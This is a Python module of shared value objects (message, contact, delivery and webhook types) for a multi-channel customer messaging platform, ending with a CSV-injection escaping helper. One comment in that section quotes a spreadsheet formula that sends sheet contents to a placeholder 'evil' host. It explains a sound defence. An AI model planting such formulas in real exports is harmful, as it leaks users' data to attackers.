"""Frozen value objects (and the CSV cell rule) shared by channels, the bot engine and the application.

Channels translate platform payloads into these and back; they never touch the database.
Everything here is framework-neutral (no aiohttp, no SQLAlchemy) so channel adapters and the
bot engine stay pure and testable.
"""

from __future__ import annotations

import enum
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any


class Direction(enum.StrEnum):
    IN = "in"
    OUT = "out"


class SenderKind(enum.StrEnum):
    CONTACT = "contact"
    AGENT = "agent"
    BOT = "bot"
    SYSTEM = "system"


class ConversationStatus(enum.StrEnum):
    OPEN = "open"
    PENDING = "pending"
    SNOOZED = "snoozed"
    RESOLVED = "resolved"


class Handler(enum.StrEnum):
    """Who answers the conversation: the bot, the queue (waiting for an agent) or a human."""

    BOT = "bot"
    QUEUE = "queue"
    HUMAN = "human"


class Role(enum.StrEnum):
    ADMIN = "admin"
    AGENT = "agent"
    MARKETER = "marketer"


class DeliveryStatus(enum.StrEnum):
    """Outbound delivery lifecycle (also mirrored on the message row)."""

    QUEUED = "queued"
    SENDING = "sending"
    SENT = "sent"
    DELIVERED = "delivered"
    FAILED = "failed"
    CANCELLED = "cancelled"


class ContentType(enum.StrEnum):
    TEXT = "text"
    IMAGE = "image"
    FILE = "file"
    AUDIO = "audio"
    VOICE = "voice"
    VIDEO = "video"
    STICKER = "sticker"
    LOCATION = "location"
    CONTACT_CARD = "contact_card"
    LINK = "link"
    POSTBACK = "postback"  # a button / menu click: payload carries the chosen option
    EVENT = "event"  # a channel event worth showing as a system note
    TEMPLATE = "template"  # outbound template notification (WeChat template message, ...)


@dataclass(frozen=True)
class Attachment:
    """A file attached to a message.

    Inbound: `source` tells the adapter how to fetch it later (e.g. a Telegram file_id); once stored
    the application fills `storage_key`. Outbound: `storage_key` or `url` points at the file to send.
    """

    kind: str  # image | file | audio | voice | video | sticker
    filename: str | None = None
    mime_type: str | None = None
    size: int | None = None
    storage_key: str | None = None
    url: str | None = None
    source: Mapping[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class ContactProfile:
    """What a channel tells us about the sender; empty fields are left unchanged on the contact."""

    name: str | None = None
    username: str | None = None
    language: str | None = None
    email: str | None = None
    phone: str | None = None
    avatar_url: str | None = None
    attributes: Mapping[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class InboundMessage:
    """One message from a customer, normalized. The ingest service stores it exactly once.

    - `external_id` is the platform's id for this message, unique per inbox (dedup key).
    - `sender_id` is the platform's user id: (inbox, sender_id) identifies a contact identity.
    - `thread_refs` are external ids of earlier messages of the same thread (email References /
      In-Reply-To); ingest continues the conversation of the first one it knows.
    - `conversation_hint` is a conversation id named by the customer (email subject token "[#42]").
    - `payload` keeps channel data the adapter needs later (chat id, raw ids) and postback choices.
    """

    external_id: str
    sender_id: str
    text: str | None = None
    content_type: str = ContentType.TEXT
    attachments: tuple[Attachment, ...] = ()
    profile: ContactProfile | None = None
    sent_at: datetime | None = None
    reply_to_external_id: str | None = None
    thread_refs: tuple[str, ...] = ()
    conversation_hint: int | None = None
    payload: Mapping[str, Any] = field(default_factory=dict)
    auto_submitted: bool = False  # machine-generated mail etc.: never auto-reply to it


class ChannelEventKind(enum.StrEnum):
    MESSAGE_EDITED = "message.edited"  # data: {"text": str}; external_id = the edited message
    CONTACT_UNREACHABLE = "contact.unreachable"  # blocked the bot / bounced; data: {"reason"}
    CONTACT_REACHABLE = "contact.reachable"
    CONTACT_UNSUBSCRIBED = "contact.unsubscribed"  # WeChat unsubscribe: no more messages at all
    CONTACT_SUBSCRIBED = "contact.subscribed"  # data may carry {"source": scene/campaign}
    CONTACT_UPDATED = "contact.updated"  # profile fields changed (shared phone, ...)
    DELIVERY_STATUS = "delivery.status"  # data: {"status", "error"}; external_id = our sent message
    INTERACTION = "interaction"  # opens/extends the reply window without a stored message
    # A mail with no usable sender: kept for an admin with its raw source, never a contact.
    # data: {"reason", "subject", "headers", "raw_storage_key", "size"}
    UNROUTABLE = "mail.unroutable"


# InboundMessage.payload key: epoch seconds until which the platform callback that brought the message
# waits to carry the bot's answer in its HTTP response (WeChat passive reply). Until then the answer's
# delivery is left to that callback, not the outbox worker.
PASSIVE_REPLY_UNTIL = "passive_reply_until"


@dataclass(frozen=True)
class ChannelEvent:
    """A platform update that is not a new customer message."""

    kind: str
    sender_id: str | None = None
    external_id: str | None = None
    profile: ContactProfile | None = None
    occurred_at: datetime | None = None
    data: Mapping[str, Any] = field(default_factory=dict)


Inbound = InboundMessage | ChannelEvent


@dataclass(frozen=True)
class Choice:
    """A button / quick reply offered to the customer."""

    label: str
    payload: str


@dataclass(frozen=True)
class OutboundMessage:
    """One message to deliver, built by the outbox worker from a delivery row."""

    delivery_id: int
    idempotency_key: str
    inbox_id: int
    recipient_id: str  # the contact identity's external id on this channel
    text: str | None = None
    content_type: str = ContentType.TEXT
    attachments: tuple[Attachment, ...] = ()
    choices: tuple[Choice, ...] = ()
    conversation_id: int | None = None
    message_id: int | None = None
    reply_to_external_id: str | None = None
    automatic: bool = False  # bot answers / acknowledgements (email marks them Auto-Submitted)
    recipient_data: Mapping[str, Any] = field(default_factory=dict)  # identity attributes
    metadata: Mapping[str, Any] = field(default_factory=dict)  # subject, template data, ...


@dataclass(frozen=True)
class SendResult:
    """What the channel answered for a delivery it accepted."""

    external_id: str | None = None
    delivered: bool = False  # the channel confirmed delivery to the device, not just acceptance
    data: Mapping[str, Any] = field(default_factory=dict)


class SendError(Exception):
    """Base of delivery failures raised by ChannelAdapter.send."""

    def __init__(self, reason: str, *, code: str | None = None) -> None:
        super().__init__(reason)
        self.reason = reason
        self.code = code


class TransientSendError(SendError):
    """Network error, 5xx, throttling: the worker retries with backoff (or after `retry_after`)."""

    def __init__(
        self, reason: str, *, code: str | None = None, retry_after: float | None = None
    ) -> None:
        super().__init__(reason, code=code)
        self.retry_after = retry_after


class PermanentSendError(SendError):
    """The channel refused the message for good; shown to the agent, never retried.

    `contact_unreachable` marks the contact identity unreachable (blocked the bot, user refuses).
    """

    def __init__(
        self, reason: str, *, code: str | None = None, contact_unreachable: bool = False
    ) -> None:
        super().__init__(reason, code=code)
        self.contact_unreachable = contact_unreachable


@dataclass(frozen=True)
class WebhookRequest:
    """A framework-neutral view of an inbound HTTP request to `/webhooks/{channel}/{inbox}`."""

    method: str
    path: str
    query: Mapping[str, str]
    headers: Mapping[str, str]  # lower-cased names
    body: bytes
    remote: str | None = None


@dataclass(frozen=True)
class WebhookResponse:
    status: int = 200
    body: bytes = b""
    content_type: str = "text/plain"


class WebhookError(Exception):
    """Raised by an adapter to refuse a webhook request: nothing is stored, the status is answered."""

    def __init__(self, status: int, message: str, *, code: str = "bad_request") -> None:
        super().__init__(message)
        self.status = status
        self.message = message
        self.code = code


@dataclass(frozen=True)
class IngestOutcome:
    """What the ingest service did with one InboundMessage / ChannelEvent."""

    duplicate: bool
    message_id: int | None = None
    conversation_id: int | None = None
    contact_id: int | None = None
    ignored_reason: str | None = None


# --- CSV cells a spreadsheet cannot run: one rule for every export (OWASP "CSV injection") ---
#
# Excel, LibreOffice and Google Sheets run a cell starting with = + - @ (and, after a tab or carriage
# return, the same) as a formula: a contact named `=HYPERLINK("http://evil/?"&A1,"Click")` in an export
# would leak the sheet or run commands on the admin's machine. Text cells starting with one of those,
# or with the apostrophe itself, get a leading apostrophe: spreadsheets show the text as typed and hide
# the apostrophe. Numbers stay numbers (a negative figure in a report is not text).
#
# Our own importers (contacts, FAQ) remove that one apostrophe again, so an export imports unchanged.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def safe_cell(value: Any) -> Any:
    """The value to write: text that could start a formula (or that starts with the escape) escaped."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, ESCAPE)):
        return ESCAPE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """`safe_cell` over a row."""
    return [safe_cell(v) for v in values]


def read_cell(text: str) -> str:
    """Undo `safe_cell` for a cell read back from one of our exports."""
    return text[1:] if text.startswith(ESCAPE) else text
